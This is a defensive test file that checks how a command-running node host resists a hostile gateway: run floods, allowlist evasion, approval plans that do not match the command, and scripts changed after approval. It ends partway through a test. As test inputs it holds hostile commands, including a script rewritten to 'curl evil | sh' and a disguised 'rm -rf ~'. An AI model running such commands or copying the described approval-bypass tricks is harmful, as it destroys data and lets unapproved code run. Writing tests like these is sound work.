// What a node takes from the gateway it serves, when that gateway is hostile
// (or relays whatever its callers chose): a gateway on loopback that sends
// the node any `node.invoke.request` a test writes, and collects the answers.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash, generateKeyPairSync, randomBytes, randomUUID } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it, mock } from 'node:test';
import { Runner, type ContainedProcess, type RunOptions, type RunResult, type SandboxPlan } from '@corral/contain';
import { DatabaseSync } from 'node:sqlite';
import { actionDigest, canonicalRun, Gateway, GatewayError, INVOKE_RELEASE_EVENT, RECEIPT_VALIDITY_MS, ReceiptSigner, type ApprovalReceipt, type Connection } from '@corral/gateway';
import { startTestGateway, type TestGateway } from '../../gateway/test/harness.ts';
import { startPaired } from '../test/paired-host.ts';
import { tempDir } from '../../../scripts/testing/temp-dir.ts';
import { MAX_RUNS, MAX_UNACKNOWLEDGED_ANSWERS, NodeHost, OUTPUT_CAP, RECEIPT_KEY_FILE, loadOrCreateDevice, type NodeHostOptions, type NodeStatus } from './host.ts';
import { LOCAL_POLICY_FILE, LocalPolicy, MAX_LOCAL_POLICY_BYTES, REMOTE_WRITES_BURST } from './local-policy.ts';
import { MAX_OPERAND_BYTES } from './file-operand.ts';
import { refusingGateway } from '../../../scripts/testing/refusing-gateway.ts';

const token = randomBytes(24).toString('base64url');

interface Answer {
  ok: boolean;
  payloadJSON?: string;
  error?: { code: string; message: string };
}

/** A paired node on a gateway whose every `node.invoke.request` the test writes. */
async function hostileGateway(options: Partial<NodeHostOptions> = {}) {
  // Room for every answer of a flood at once (the node does not resend one the gateway turned away).
  const gw = await startTestGateway({ token, maxInFlight: 1_000 });
  const waiting = new Map<string, (answer: Answer) => void>();
  /** How many answers came under each id. */
  const answers = new Map<string, number>();
  gw.server.method('node.invoke.result', {
    role: 'node',
    handler: (params) => {
      const p = params as Answer & { id: string };
      answers.set(p.id, (answers.get(p.id) ?? 0) + 1);
      waiting.get(p.id)?.(p);
      return { ok: true };
    },
  });
  let node: Connection | undefined;
  gw.server.on('ready', (connection) => {
    if (connection.peer?.role === 'node') node = connection;
  });
  const host = new NodeHost({ gateway: gw.server.url, token, stateDir: tempDir('corral-hostile-node-'), maxBackoffMs: 200, warmSandboxes: 0, ...options });
  await startPaired(host, gw);
  while (node === undefined) await new Promise((r) => setTimeout(r, 5));
  const invoke = (command: string, params: Record<string, unknown>, timeoutMs?: unknown, id: string = randomUUID()): Promise<Answer> =>
    new Promise((resolve) => {
      waiting.set(id, resolve);
      node!.event('node.invoke.request', { id, nodeId: host.device.deviceId, command, paramsJSON: JSON.stringify(params), ...(timeoutMs !== undefined ? { timeoutMs } : {}) });
    });
  return {
    host,
    invoke,
    /** Sends the node an event of the gateway's (a release, a cancel). */
    send: (event: string, payload: unknown) => node!.event(event, payload),
    /** How many answers the node sent under `id`. */
    answered: (id: string) => answers.get(id) ?? 0,
    /** Stops reading what the node sends on its connection (its answers among it); the gateway's own frames still go out. */
    stopReading: () => node!.socket.pause(),
    /** Closes the node's connection from the gateway's side (a restart, a network drop); the node then reconnects. */
    drop: () => node!.close(1012, 'service restart'),
    server: gw.server,
    close: async () => {
      await host.close();
      await gw.stop();
    },
  };
}

/** A node state directory whose own policy (upstream's exec approvals file) is `policy`. */
function stateWithPolicy(policy: unknown): string {
  const stateDir = tempDir('corral-hostile-node-');
  writeFileSync(join(stateDir, LOCAL_POLICY_FILE), JSON.stringify(policy));
  return stateDir;
}

/** A node policy that runs only the programs `patterns` name, and asks no one. */
const allowlistOf = (...patterns: string[]) => ({ version: 1, defaults: { security: 'allowlist', ask: 'off' }, agents: { '*': { allowlist: patterns.map((pattern) => ({ pattern })) } } });

/** hostileGateway's options for a node on `stateDir` that runs every agent under container policy `policy`. */
const containedBy = (stateDir: string, policy: Record<string, unknown>): Partial<NodeHostOptions> => ({ stateDir, containerPolicies: { '*': { policy, baseDir: stateDir } } });

/** What a run the node answered wrote on stdout. */
const stdoutOf = (answer: Answer): string => (JSON.parse(answer.payloadJSON!) as { stdout: string }).stdout;

/** A paired node on a hostile gateway, serving control plane `cp` as invoice-bot for upstream's agent `main`, once `cp` has paired it too (letting it ask for invoice-bot, when `cp` knows that agent). */
async function nodePairedWith(cp: Pick<TestGateway, 'server' | 'identity'>, options: Partial<NodeHostOptions> = {}) {
  const announced = new Promise<void>((resolve) => cp.server.onPairingRequest(() => resolve()));
  const gw = await hostileGateway({ controlPlane: { url: cp.server.url, token, agents: { main: 'invoice-bot' } }, ...options });
  await announced;
  cp.identity.nodes.pair(gw.host.device.deviceId, 'test', { agents: cp.identity.agents.idsOf(['invoice-bot'].filter((a) => cp.identity.agents.find(a))) });
  return gw;
}

/** A runner whose runs last until `finish()`, counting how many it holds at once. */
class HeldRunner extends Runner {
  running = 0;
  most = 0;
  readonly #held: Array<() => void> = [];
  override async run(_plan: SandboxPlan, _argv: readonly string[], _options?: RunOptions): Promise<RunResult & { stdout: string; stderr: string }> {
    this.running += 1;
    this.most = Math.max(this.most, this.running);
    await new Promise<void>((resolve) => this.#held.push(resolve));
    this.running -= 1;
    return { exitCode: 0, signal: null, notFound: false, durationMs: 0, warm: false, peakMemoryBytes: null, limitsHit: [], refused: [], connections: [], connectionsDropped: 0, ingress: [], warnings: [], policyDigest: 'held', stdoutBytes: 0, stderrBytes: 0, stdout: '', stderr: '' };
  }
  finish(): void {
    for (const resolve of this.#held.splice(0)) resolve();
  }
}

/** A runner that runs nothing: it records each argv it is given in `ran` and finishes the run at once. */
class RecordingRunner extends HeldRunner {
  readonly #ran: string[][];
  constructor(ran: string[][]) {
    super();
    this.#ran = ran;
  }
  override run(plan: SandboxPlan, argv: readonly string[], options?: RunOptions): Promise<RunResult & { stdout: string; stderr: string }> {
    this.#ran.push([...argv]);
    const result = super.run(plan, argv, options);
    this.finish();
    return result;
  }
}

/** A runner whose runs last until their signal stops them (or `finish()`), answered then as a killed run (no exit code). */
class UntilStoppedRunner extends Runner {
  /** The argv of every run begun. */
  readonly ran: string[][] = [];
  readonly began = Promise.withResolvers<void>();
  readonly aborted = Promise.withResolvers<void>();
  readonly #ended = Promise.withResolvers<void>();
  override async run(_plan: SandboxPlan, argv: readonly string[], options?: RunOptions): Promise<RunResult & { stdout: string; stderr: string }> {
    this.ran.push([...argv]);
    this.began.resolve();
    options?.signal?.addEventListener('abort', () => this.aborted.resolve(), { once: true });
    if (options?.signal?.aborted) this.aborted.resolve();
    await Promise.race([this.aborted.promise, this.#ended.promise]);
    return { exitCode: null, signal: 'SIGKILL', notFound: false, durationMs: 0, warm: false, peakMemoryBytes: null, limitsHit: [], refused: [], connections: [], connectionsDropped: 0, ingress: [], warnings: [], policyDigest: 'stopped', stdoutBytes: 0, stderrBytes: 0, stdout: '', stderr: '' };
  }
  finish(): void {
    this.#ended.resolve();
  }
  /** Whether a run's signal stopped it within 10 s. */
  stoppedInTime(): Promise<boolean> {
    return Promise.race([this.aborted.promise.then(() => true), new Promise<false>((resolve) => setTimeout(() => resolve(false), 10_000).unref())]);
  }
}

describe('a flood of system.run from the gateway', () => {
  it(`runs at most ${MAX_RUNS} at once and refuses the rest at once as UNAVAILABLE, rather than starting a sandbox for each (regression: 200 sandboxes at once)`, async () => {
    const runner = new HeldRunner();
    const gw = await hostileGateway({ runner });
    try {
      const answers = Array.from({ length: 200 }, () => gw.invoke('system.run', { command: ['echo', 'flood'] }));
      const refused = await Promise.race([Promise.all(answers.slice(MAX_RUNS)), new Promise<never>((_, reject) => setTimeout(() => reject(new Error('the runs beyond the limit were not answered at once')), 5_000))]);
      assert.ok(refused.every((a) => !a.ok && a.error?.code === 'UNAVAILABLE'), JSON.stringify(refused[0]));
      assert.equal(runner.most, MAX_RUNS);
      runner.finish();
      assert.ok((await Promise.all(answers.slice(0, MAX_RUNS))).every((a) => a.ok));
      // Room again once they ended.
      const next = gw.invoke('system.run', { command: ['echo', 'after'] });
      while (runner.running === 0) await new Promise((r) => setTimeout(r, 5));
      runner.finish();
      assert.equal((await next).ok, true);
    } finally {
      runner.finish();
      await gw.close();
      await runner.close();
    }
  });
});

describe("a shell of the caller's choosing under the node's allowlist", () => {
  it('is refused though the command it wraps is listed: its path, not its name, says what runs (regression: /tmp/x/sh -c "echo hi" passed an allowlist of echo)', async () => {
    const stateDir = stateWithPolicy(allowlistOf('echo'));
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await hostileGateway({ stateDir, runner });
    try {
      const refused = await gw.invoke('system.run', { command: ['/tmp/x/sh', '-c', 'echo hi'] });
      assert.equal(refused.error?.code, 'SYSTEM_RUN_DENIED');
      assert.match(refused.error!.message, /\/tmp\/x\/sh is not on the node's allowlist/);
      const allowed = await gw.invoke('system.run', { command: ['/bin/sh', '-c', 'echo hi'] });
      assert.equal(allowed.ok, true, allowed.error?.message);
      assert.deepEqual(ran, [['/bin/sh', '-c', 'echo hi']]);
    } finally {
      await gw.close();
      await runner.close();
    }
  });
});

describe("a program on the node's allowlist that runs a command through a subcommand (npm exec, npx, bundle exec)", () => {
  it('is refused, and runs nothing, though the program is listed: the command it would run is what runs (regression: an allowlist of npm ran npm exec -- rm -rf X)', async () => {
    const stateDir = stateWithPolicy(allowlistOf('npm', 'npx', 'bundle'));
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await hostileGateway({ stateDir, runner });
    try {
      for (const command of [['npm', 'exec', '--', 'rm', '-rf', 'x'], ['npx', 'rm', '-rf', 'x'], ['bundle', 'exec', 'rm', '-rf', 'x']]) {
        const refused = await gw.invoke('system.run', { command });
        assert.equal(refused.error?.code, 'SYSTEM_RUN_DENIED', command.join(' '));
        assert.match(refused.error!.message, /cannot tell what would run/);
      }
      const allowed = await gw.invoke('system.run', { command: ['npm', 'ci'] });
      assert.equal(allowed.ok, true, allowed.error?.message);
      assert.deepEqual(ran, [['npm', 'ci']]);
    } finally {
      await gw.close();
      await runner.close();
    }
  });
});

describe('a run the gateway holds until its decision is recorded (awaitRelease)', () => {
  /** A node whose policy allows echo, with its runs recorded (never run), and a count of its reads of that policy. */
  async function holding() {
    const stateDir = stateWithPolicy(allowlistOf('echo'));
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await hostileGateway({ stateDir, runner });
    const read = Object.getOwnPropertyDescriptor(LocalPolicy.prototype, 'current')!.get!;
    const reads = { count: 0, first: Promise.withResolvers<void>() };
    Object.defineProperty(gw.host.policy, 'current', {
      get() {
        reads.count += 1;
        reads.first.resolve();
        return read.call(gw.host.policy);
      },
    });
    /** Sends a held `echo held`; resolves once the node has checked and planned it and waits for the release. */
    const held = async (id: string): Promise<{ answer: Promise<Answer> }> => {
      const answer = gw.invoke('system.run', { command: ['echo', 'held'], awaitRelease: true }, 20_000, id);
      await reads.first.promise;
      // What follows the first read up to the wait for the release runs in the same turn of the event loop.
      await new Promise((resolve) => setImmediate(resolve));
      return { answer };
    };
    const release = (id: string) => gw.send(INVOKE_RELEASE_EVENT, { id, ok: true });
    return { gw, ran, reads, held, release, stateDir, close: async () => (await gw.close(), await runner.close()) };
  }

  it('is checked against one reading of the node policy before the release and one after it: the allowlist and the check for planted programs never see two versions of it', async () => {
    const node = await holding();
    try {
      const id = randomUUID();
      const { answer } = await node.held(id);
      assert.equal(node.reads.count, 1, 'read more than once before the release');
      node.release(id);
      const done = await answer;
      assert.equal(done.ok, true, done.error?.message);
      assert.equal(node.reads.count, 2, 'read more than once after the release');
      assert.deepEqual(node.ran, [['echo', 'held']]);
    } finally {
      await node.close();
    }
  });

  it('is refused, and nothing runs, when the node policy is tightened while it waits for the release', async () => {
    const node = await holding();
    try {
      const id = randomUUID();
      const { answer } = await node.held(id);
      writeFileSync(join(node.stateDir, LOCAL_POLICY_FILE), JSON.stringify({ version: 1, defaults: { security: 'deny' } }));
      node.release(id);
      const refused = await answer;
      assert.equal(refused.error?.code, 'SYSTEM_RUN_DENIED');
      assert.deepEqual(node.ran, []);
    } finally {
      await node.close();
    }
  });
});

describe('system.run.prepare, whose command text upstream shows its approvers', () => {
  /** The plan's command text, or the code it was refused with. */
  const plan = async (gw: Awaited<ReturnType<typeof hostileGateway>>, params: Record<string, unknown>): Promise<{ code?: string; commandText?: string }> => {
    const answer = await gw.invoke('system.run.prepare', params);
    return answer.ok ? { commandText: (JSON.parse(answer.payloadJSON!) as { plan: { commandText: string } }).plan.commandText } : { code: answer.error?.code };
  };
  /** Asks a fresh node to plan each case's params, and checks the command text shown, or the code refused with, is the case's. */
  const plansAre = async (cases: ReadonlyArray<readonly [params: Record<string, unknown>, shown: { code: string } | { commandText: string }]>) => {
    const gw = await hostileGateway();
    try {
      for (const [params, shown] of cases) assert.deepEqual(await plan(gw, params), shown, JSON.stringify(params));
    } finally {
      await gw.close();
    }
  };

  it('refuses a rawCommand that is not the command it comes with, as upstream\'s node host does (regression: an approver was shown "ls" for /bin/sh -lc "rm -rf ~")', async () => {
    await plansAre([
      ...['ls', 'rm -rf', '/bin/sh -lc rm -rf ~ ; ls'].map((rawCommand) => [{ command: ['/bin/sh', '-lc', 'rm -rf ~'], rawCommand }, { code: 'INVALID_REQUEST' }] as const),
      [{ command: ['printf', 'a b', 'c'], rawCommand: 'printf a b c' }, { code: 'INVALID_REQUEST' }],
    ]);
  });

  it("shows a shell's text only for the system's own shell: another program named sh is shown as the argv it is (regression: /tmp/x/sh -c 'echo hi' was shown to approvers as echo hi)", async () => {
    await plansAre([
      [{ command: ['/tmp/x/sh', '-c', 'echo hi'], rawCommand: 'echo hi' }, { code: 'INVALID_REQUEST' }],
      [{ command: ['./sh', '-c', 'echo hi'], rawCommand: 'echo hi' }, { code: 'INVALID_REQUEST' }],
      [{ command: ['/tmp/x/sh', '-c', 'echo hi'], rawCommand: '/tmp/x/sh -c "echo hi"' }, { commandText: '/tmp/x/sh -c "echo hi"' }],
      [{ command: ['/tmp/x/sh', '-c', 'echo hi'] }, { commandText: '/tmp/x/sh -c "echo hi"' }],
      [{ command: ['bash', '-c', 'echo hi'], rawCommand: 'echo hi' }, { commandText: 'echo hi' }],
      [{ command: ['/usr/bin/bash', '-c', 'echo hi'], rawCommand: 'echo hi' }, { commandText: 'echo hi' }],
    ]);
  });

  it("shows the shell's text, or the argv quoted as upstream quotes it", async () => {
    await plansAre([
      [{ command: ['/bin/sh', '-lc', 'echo hi'], rawCommand: ' echo hi ' }, { commandText: 'echo hi' }],
      [{ command: ['/bin/sh', '-lc', 'echo hi'], rawCommand: '/bin/sh -lc "echo hi"' }, { commandText: '/bin/sh -lc "echo hi"' }],
      [{ command: ['printf', 'a b', '', 'say "x"'] }, { commandText: 'printf "a b" "" "say \\"x\\""' }],
      [{ command: ['printf', 'a b'], rawCommand: 'printf "a b"' }, { commandText: 'printf "a b"' }],
    ]);
  });
});

describe('a system.run whose params say another command than the one it runs', () => {
  it("is refused as INVALID_REQUEST and runs nothing, an approval claimed or not: the plan approvers were shown (systemRunPlan, rawCommand) must be the argv, cwd and agent of the run (regression: approved for the plan of printf ok, printf pwned ran)", async () => {
    const stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full', ask: 'always' } });
    const work = tempDir('corral-hostile-work-');
    mkdirSync(join(work, 'other'));
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readonly: [work] } };
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await hostileGateway({ ...containedBy(stateDir, policy), runner });
    try {
      const asked = { command: ['/bin/sh', '-lc', 'printf ok'], rawCommand: 'printf ok', cwd: work, agentId: 'main', sessionKey: 'agent:main:main' };
      const prepared = await gw.invoke('system.run.prepare', asked);
      const { plan } = JSON.parse(prepared.payloadJSON!) as { plan: Record<string, unknown> };
      const contradictions: Array<[string, Record<string, unknown>]> = [
        ['another argv', { command: ['/bin/sh', '-lc', 'printf pwned'], rawCommand: 'printf pwned' }],
        ['another cwd', { cwd: join(work, 'other') }],
        ['another agent', { agentId: 'ops', sessionKey: 'agent:ops:main' }],
        ['a plan of another command text', { systemRunPlan: { ...plan, commandText: 'printf pwned' } }],
        ['a plan that is no object', { systemRunPlan: 'printf ok' }],
        ['a rawCommand of another command', { rawCommand: 'printf pwned', systemRunPlan: undefined }],
      ];
      for (const [what, change] of contradictions) {
        const answer = await gw.invoke('system.run', { ...asked, systemRunPlan: plan, approved: true, approvalDecision: 'allow-once', ...change });
        assert.equal(answer.error?.code, 'INVALID_REQUEST', `${what}: ${JSON.stringify(answer)}`);
      }
      assert.deepEqual(ran, []);
      const approved = await gw.invoke('system.run', { ...asked, systemRunPlan: plan, approved: true, approvalDecision: 'allow-once' });
      assert.equal(approved.ok, true, approved.error?.message);
      assert.deepEqual(ran, [['/bin/sh', '-lc', 'printf ok']]);
    } finally {
      await gw.close();
      await runner.close();
    }
  });
});

describe('a system.run of a script approved by its content (systemRunPlan.mutableFileOperand, as upstream binds it)', () => {
  /** A node that records what it would run, under a policy that asks for every run, with `work` readable by its sandbox. */
  async function scriptNode() {
    const stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full', ask: 'always' } });
    const work = tempDir('corral-script-work-');
    const ran: string[][] = [];
    const runner = new RecordingRunner(ran);
    const gw = await hostileGateway({ ...containedBy(stateDir, { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readonly: [work] } }), runner });
    const prepare = async (params: Record<string, unknown>) => {
      const answer = await gw.invoke('system.run.prepare', { cwd: work, agentId: 'main', sessionKey: 'agent:main:main', ...params });
      return answer.ok ? { plan: (JSON.parse(answer.payloadJSON!) as { plan: Record<string, unknown> }).plan } : { error: answer.error! };
    };
    const run = (params: Record<string, unknown>) => gw.invoke('system.run', { cwd: work, agentId: 'main', sessionKey: 'agent:main:main', approved: true, approvalDecision: 'allow-once', ...params });
    return { gw, work, ran, prepare, run, close: async () => { await gw.close(); await runner.close(); } };
  }
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

  it('prepare binds the one file a run runs: its argv index, its absolute path against the cwd, its sha256; none for ls -l or sh -c TEXT', async () => {
    const node = await scriptNode();
    try {
      writeFileSync(join(node.work, 'build.py'), 'print("ok")\n');
      writeFileSync(join(node.work, 'x.sh'), 'echo ok\n', { mode: 0o755 });
      assert.deepEqual((await node.prepare({ command: ['python3', 'build.py'] })).plan?.mutableFileOperand, { argvIndex: 1, path: join(node.work, 'build.py'), sha256: sha256('print("ok")\n') });
      assert.deepEqual((await node.prepare({ command: ['sh', '-e', 'x.sh', 'arg'] })).plan?.mutableFileOperand, { argvIndex: 2, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') });
      assert.deepEqual((await node.prepare({ command: ['./x.sh'] })).plan?.mutableFileOperand, { argvIndex: 0, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') });
      assert.deepEqual((await node.prepare({ command: [join(node.work, 'x.sh')], cwd: undefined })).plan?.mutableFileOperand, { argvIndex: 0, path: join(node.work, 'x.sh'), sha256: sha256('echo ok\n') }, 'an absolute path needs no cwd');
      for (const command of [['ls', '-l'], ['sh', '-c', 'echo hi'], ['/bin/sh', '-lc', 'python3 build.py'], ['make']]) {
        const { plan } = await node.prepare({ command });
        // Left out, not null: upstream's gateway refuses a plan whose mutableFileOperand is null.
        assert.ok(plan !== undefined && !('mutableFileOperand' in plan), JSON.stringify(command));
      }
    } finally {
      await node.close();
    }
  });

  it('prepare refuses (SYSTEM_RUN_DENIED) a script it cannot bind rather than pretend: a FIFO (without waiting on it), a file too large, a folder, one missing, one named inside a longer word, a relative one with no cwd', async () => {
    const node = await scriptNode();
    try {
      execFileSync('mkfifo', [join(node.work, 'fifo.py')]);
      const large = join(node.work, 'large.py');
      writeFileSync(large, '');
      truncateSync(large, MAX_OPERAND_BYTES + 1);
      mkdirSync(join(node.work, 'folder.py'));
      writeFileSync(join(node.work, 'prog.awk'), '{ print }\n');
      for (const [command, cwd, says] of [
        [['python3', 'fifo.py'], node.work, /fifo\.py is not a regular file/],
        [['python3', 'large.py'], node.work, /large\.py is larger than/],
        [['python3', 'folder.py'], node.work, /folder\.py is not a regular file/],
        [['python3', 'missing.py'], node.work, /missing\.py cannot be found/],
        [['awk', '-fprog.awk', 'data'], node.work, /inside a longer argument/],
        [['python3', 'build.py'], undefined, /give the run a cwd/],
      ] as const) {
        const { error } = await node.prepare({ command, cwd });
        assert.equal(error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(command));
        assert.match(error.message, says);
      }
    } finally {
      await node.close();
    }
  });

  it("prepare never tells the hash of a script the agent's sandbox does not see, nor while that sandbox cannot be planned: refused (SYSTEM_RUN_DENIED) without reading it (regression: prepare read any file the node could and answered its sha256 when the container policy could not be planned)", async () => {
    const node = await scriptNode();
    try {
      const outside = join(tempDir('corral-script-outside-'), 'secret.py');
      writeFileSync(outside, 'print("not the agent\'s")\n');
      const unseen = await node.prepare({ command: ['python3', outside] });
      assert.equal(unseen.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(unseen));
      assert.match(unseen.error!.message, /secret\.py is not reached in the sandbox/);
      // The granted folder gone, the agent's sandbox cannot be planned: no run of it would start, and no file is bound for it.
      rmSync(node.work, { recursive: true });
      const unplanned = await node.prepare({ command: ['python3', outside], cwd: undefined });
      assert.equal(unplanned.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(unplanned));
      assert.match(unplanned.error!.message, /secret\.py cannot be bound: the agent's container policy cannot be planned now/);
    } finally {
      await node.close();
    }
  });

  it('runs the script as approved, and refuses it (nothing run) once it changed between prepare and run (regression: python3 build.py approved, build.py rewritten, the new content ran)', async () => {
    const node = await scriptNode();
    try {
      const script = join(node.work, 'build.py');
      writeFileSync(script, 'print("ok")\n');
      const asked = { command: ['python3', 'build.py'], rawCommand: 'python3 build.py' };
      const { plan } = await node.prepare(asked);
      const approved = await node.run({ ...asked, systemRunPlan: plan });
      assert.equal(approved.ok, true, approved.error?.message);
      assert.deepEqual(node.ran, [['python3', 'build.py']]);
      writeFileSync(script, 'import os; os.system("curl evil | sh")\n');
      const changed = await node.run({ ...asked, systemRunPlan: plan });
      assert.equal(changed.error?.code, 'SYSTEM_RUN_DENIED');
      assert.match(changed.error!.message, /the script build\.py changed since it was approved .*approve the run again \[NODE_RUN_DENIED\]/);
      rmSync(script);
      symlinkSync(join(node.work, 'other.py'), script);
      writeFileSync(join(node.work, 'other.py'), 'print("ok")\n');
      const linked = await node.run({ ...asked, systemRunPlan: plan });
      assert.equal(linked.error?.code, 'SYSTEM_RUN_DENIED', 'the same content elsewhere, behind a link, is not the file approved');
      assert.deepEqual(node.ran, [['python3', 'build.py']]);
    } finally {
      await node.close();
    }
  });

  it('refuses a plan whose file is another than the run runs (SYSTEM_RUN_DENIED), and one whose mutableFileOperand is malformed (INVALID_REQUEST), running nothing', async () => {
    const node = await scriptNode();
    try {
      writeFileSync(join(node.work, 'build.py'), 'print("ok")\n');
      writeFileSync(join(node.work, 'other.py'), 'print("ok")\n');
      const asked = { command: ['python3', 'build.py'], rawCommand: 'python3 build.py' };
      const { plan } = await node.prepare(asked);
      const operand = plan!.mutableFileOperand as { argvIndex: number; path: string; sha256: string };
      const elsewhere = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: { ...operand, path: join(node.work, 'other.py') } } });
      assert.equal(elsewhere.error?.code, 'SYSTEM_RUN_DENIED', JSON.stringify(elsewhere));
      assert.match(elsewhere.error!.message, /build\.py is not the file that was approved/);
      const wrongWord = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: { ...operand, argvIndex: 0 } } });
      assert.equal(wrongWord.error?.code, 'SYSTEM_RUN_DENIED', 'argv[0] is python3, not build.py');
      for (const malformed of [{ ...operand, argvIndex: 2 }, { ...operand, argvIndex: -1 }, { ...operand, argvIndex: 1.5 }, { ...operand, path: 'build.py' }, { ...operand, sha256: 'ab' }, { ...operand, extra: 1 }, 'build.py', [operand]]) {
        const answer = await node.run({ ...asked, systemRunPlan: { ...plan, mutableFileOperand: malformed } });
        assert.equal(answer.error?.code, 'INVALID_REQUEST', JSON.stringify(malformed));
      }
      assert.deepEqual(node.ran, []);
    } finally {
      await node.close();
    }
  });
});

describe('a command that writes far more than the node passes on', () => {
  it(`is held at most ${OUTPUT_CAP} bytes a stream while it runs, whatever its policy lets it write (regression: the runner collected all of it, up to maxOutputBytes, for each of 32 runs)`, async () => {
    const stateDir = tempDir('corral-hostile-node-');
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, process: { timeoutMs: 60_000, maxOutputBytes: 512 * 1024 * 1024 } };
    const collected: ContainedProcess[] = [];
    const runner = new (class extends Runner {
      override spawn(plan: SandboxPlan, argv: readonly string[], options?: RunOptions): ContainedProcess {
        const proc = super.spawn(plan, argv, options);
        collected.push(proc);
        return proc;
      }
    })();
    const gw = await hostileGateway({ ...containedBy(stateDir, policy), runner });
    try {
      // A small answer first: Corral's gateway counts a connection's bytes against its 64 KiB pre-hello limit until the node's first frame after hello-ok.
      assert.equal((await gw.invoke('system.run', { command: ['true'] })).ok, true);
      const answer = await gw.invoke('system.run', { command: ['head', '-c', '8000000', '/dev/zero'] }, 60_000);
      assert.equal(answer.ok, true, answer.error?.message);
      const payload = JSON.parse(answer.payloadJSON!) as { stdout: string; stderr: string; truncated: boolean; exitCode: number };
      assert.deepEqual([payload.exitCode, payload.stdout.length, payload.stderr, payload.truncated], [0, OUTPUT_CAP, '', true]);
      const held = collected.at(-1)!.output;
      assert.equal(Buffer.concat([...held.stdout, ...held.stderr]).length, 0, 'the runner kept none of it for the node');
      const small = await gw.invoke('system.run', { command: ['printf', 'short'] });
      assert.deepEqual([JSON.parse(small.payloadJSON!).stdout, JSON.parse(small.payloadJSON!).truncated], ['short', false]);
    } finally {
      await gw.close();
      await runner.close();
    }
  });
});

describe('system.which', () => {
  const saved = process.env.PATH;
  after(() => {
    process.env.PATH = saved;
  });

  it("names programs only where a sandbox finds them (the system directories), never a folder on the node's own PATH, and never a directory (regression: '..' answered /usr, a tool in the node's home answered with its path)", async () => {
    const gw = await hostileGateway();
    const home = tempDir('corral-which-home-');
    const own = join(home, 'alice', '.local', 'bin');
    mkdirSync(own, { recursive: true });
    writeFileSync(join(own, 'deploy-prod'), '#!/bin/sh\n');
    chmodSync(join(own, 'deploy-prod'), 0o755);
    process.env.PATH = `${own}:/usr/bin:/bin`;
    try {
      const answer = await gw.invoke('system.which', { bins: ['sh', 'deploy-prod', '..', '.', 'bin'] });
      assert.equal(answer.ok, true);
      const { bins } = JSON.parse(answer.payloadJSON!) as { bins: Record<string, string> };
      assert.deepEqual(Object.keys(bins), ['sh']);
      assert.match(bins.sh!, /^\/(usr\/)?bin\/sh$/);
    } finally {
      process.env.PATH = saved;
      await gw.close();
    }
  });
});

describe("the gateway's timeoutMs", () => {
  it('runs a command whose timeout is too large for a timer, or not a number, under the default instead of killing it at once (regression: 2^31 ms aborted the run after 1 ms)', async () => {
    const gw = await hostileGateway();
    try {
      for (const timeoutMs of [2 ** 31, Number.MAX_SAFE_INTEGER, '5000', -1]) {
        const answer = await gw.invoke('system.run', { command: ['echo', 'on time'] }, timeoutMs);
        assert.equal(answer.ok, true, `${timeoutMs}: ${answer.error?.message}`);
        const payload = JSON.parse(answer.payloadJSON!) as { stdout: string; timedOut: boolean };
        assert.deepEqual([payload.stdout, payload.timedOut], ['on time\n', false], String(timeoutMs));
      }
    } finally {
      await gw.close();
    }
  });
});

describe('a node serving another gateway, governed by a Corral control plane', () => {
  /** A control plane permitting invoice-bot `printf`, and a node on a gateway the test writes, mapping upstream `main` to invoice-bot, its own policy asking for every command. */
  async function governed() {
    const state = tempDir('corral-hostile-cp-');
    mkdirSync(join(state, 'policies'));
    writeFileSync(join(state, 'policies', 'run.cedar'), 'permit (principal == Agent::"invoice-bot", action == Action::"system.run", resource == Command::"printf");\n');
    const cp = await Gateway.start({ stateDir: state, token, port: 0, approvalPollMs: 20 });
    cp.identity.agents.create({ name: 'invoice-bot', process: 'invoices', owner: 'owner@example.com', scopes: [] });
    const gw = await nodePairedWith(cp, { stateDir: stateWithPolicy({ version: 1, defaults: { security: 'full', ask: 'always' } }) });
    const approveNext = async (decision: 'allow-once' | 'allow-always'): Promise<void> => {
      for (let i = 0; i < 500; i++) {
        const [pending] = cp.approvals.list({ status: 'pending' });
        if (pending) {
          await cp.invoker.resolveApprovalWhenFree(pending.id, decision, 'alice');
          return;
        }
        await new Promise((r) => setTimeout(r, 20));
      }
      assert.fail('no approval was asked for');
    };
    return {
      ...gw,
      cp,
      approveNext,
      close: async () => {
        await gw.close();
        await cp.close();
      },
    };
  }
  const run = { command: ['printf', 'governed'], agentId: 'main', sessionKey: 'agent:main:main' };

  it("runs again, unasked, what an approver allowed always when the node's own policy asked (regression: the grant answered the control plane's ask, and the node, finding no receipt, refused every later run)", async () => {
    const gw = await governed();
    try {
      const first = gw.invoke('system.run', run, 20_000);
      await gw.approveNext('allow-always');
      assert.equal((await first).ok, true, (await first).error?.message);
      const again = await gw.invoke('system.run', run, 20_000);
      assert.equal(again.ok, true, again.error?.message);
      assert.equal(gw.cp.approvals.list({ status: 'pending' }).length, 0);
    } finally {
      await gw.close();
    }
  });
});

describe('a control plane that answers with garbage', () => {
  it('denies, and runs nothing, whatever it answers short of an allow with its digest (and the receipt of any approval it names)', async () => {
    const answers: unknown[] = [null, 'allow', {}, { decision: 'allow' }, { decision: 'ALLOW', digest: 'd' }, { decision: 'allow', digest: 7 }, { decision: 'allow', digest: 'd', approvalId: 'a' }, { decision: 'allow', digest: 'd', approvalReceipt: { v: 1 } }];
    const cp = await startTestGateway({ token });
    let next = 0;
